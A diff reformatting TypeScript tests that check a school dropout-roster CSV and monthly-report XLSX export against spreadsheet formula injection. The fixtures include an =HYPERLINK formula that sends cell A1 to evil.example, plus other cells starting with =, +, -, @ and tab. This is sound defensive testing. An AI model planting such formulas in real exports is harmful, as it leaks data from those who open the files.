@@ -24,12 +24,23 @@ describe('safeCell', () => {
 describe('the dropout roster export', () => {
   const evil = {
     row: { id: 7, openedOn: '2026-11-02' },
-    s: { name: '=HYPERLINK("http://evil.example/?"&A1,"张三")', gender: 'M', studentNo: '@1', class: { name: '三(2)班', school: { name: '+青石小学' } }, village: { name: '-东山村', town: { name: '青石镇' } }, guardian: '\t=1+1', guardianPhone: '13812345678' },
+    s: {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"张三")',
+      gender: 'M',
+      studentNo: '@1',
+      class: { name: '三(2)班', school: { name: '+青石小学' } },
+      village: { name: '-东山村', town: { name: '青石镇' } },
+      guardian: '\t=1+1',
+      guardianPhone: '13812345678',
+    },
     c: { state: 'detected', visits: [], noticeDeadline: undefined },
   } as unknown as CaseInArea;
 
   it('CSV: no cell starts with a formula character', () => {
-    const cells = rosterCsv([evil]).split('\r\n')[1]!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, ''));
+    const cells = rosterCsv([evil])
+      .split('\r\n')[1]!
+      .split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
+      .map((c) => c.replace(/^"|"$/g, ''));
     expect(cells[2]).toBe(`'=HYPERLINK(""http://evil.example/?""&A1,""张三"")`);
     for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
   });
@@ -47,7 +58,19 @@ describe('the dropout roster export', () => {
 
 describe('the monthly report export', () => {
   it('a school or student named like a formula is written as text; the figures stay numbers', async () => {
-    const f: Figures = { atTermStart: 10, current: 9, transferredIn: 0, transferredOut: 0, suspended: 0, borrowing: 0, droppedMonth: 1, droppedTerm: 1, returnedTerm: 0, dropoutRate: 0.1, retentionRate: 0.9 };
+    const f: Figures = {
+      atTermStart: 10,
+      current: 9,
+      transferredIn: 0,
+      transferredOut: 0,
+      suspended: 0,
+      borrowing: 0,
+      droppedMonth: 1,
+      droppedTerm: 1,
+      returnedTerm: 0,
+      dropoutRate: 0.1,
+      retentionRate: 0.9,
+    };
     const m: MonthlyReportModel = {
       title: '=青石镇控辍保学月报表',
       rowHeader: '学校',
@@ -65,13 +88,35 @@ describe('the monthly report export', () => {
       unitRates: { consolidation: { missing: '未导入（=青石小学 2018 年一年级入学人数）' } },
       breaches: [],
       notes: ['九年义务教育巩固率：未导入（=青石小学 2018 年一年级入学人数）', '=说明'],
-      cases: [{ id: 3, name: '-张三', studentNo: '@123', className: '+三(2)班', village: '=东山村', state: '已登记', openedOn: '2026-11-02', responsible: '\t=周老师', confirmed: true, reason: '=外出务工', visits: '-', attention: '+', since: '2026-11-01', step: '' }],
+      cases: [
+        {
+          id: 3,
+          name: '-张三',
+          studentNo: '@123',
+          className: '+三(2)班',
+          village: '=东山村',
+          state: '已登记',
+          openedOn: '2026-11-02',
+          responsible: '\t=周老师',
+          confirmed: true,
+          reason: '=外出务工',
+          visits: '-',
+          attention: '+',
+          since: '2026-11-01',
+          step: '',
+        },
+      ],
     };
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(arrayBuffer(await monthlyReportXlsx(m)));
     const texts: string[] = [];
     const formulas: string[] = [];
-    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((cell) => (cell.type === ExcelJS.ValueType.Formula ? formulas.push(cell.formula) : typeof cell.value === 'string' && texts.push(cell.value))));
+    for (const ws of wb.worksheets)
+      ws.eachRow((row) =>
+        row.eachCell((cell) =>
+          cell.type === ExcelJS.ValueType.Formula ? formulas.push(cell.formula) : typeof cell.value === 'string' && texts.push(cell.value),
+        ),
+      );
     expect(texts).toEqual(expect.arrayContaining(["'=说明", "'@青石小学", "'-张三", "'+三(2)班", "'=东山村", "'\t=周老师", "'=外出务工", "'@123"]));
     expect(texts.filter((t) => startsLikeFormula.test(t))).toEqual([]);
     // the only formulas are the form's own subtotals and totals over its cell ranges
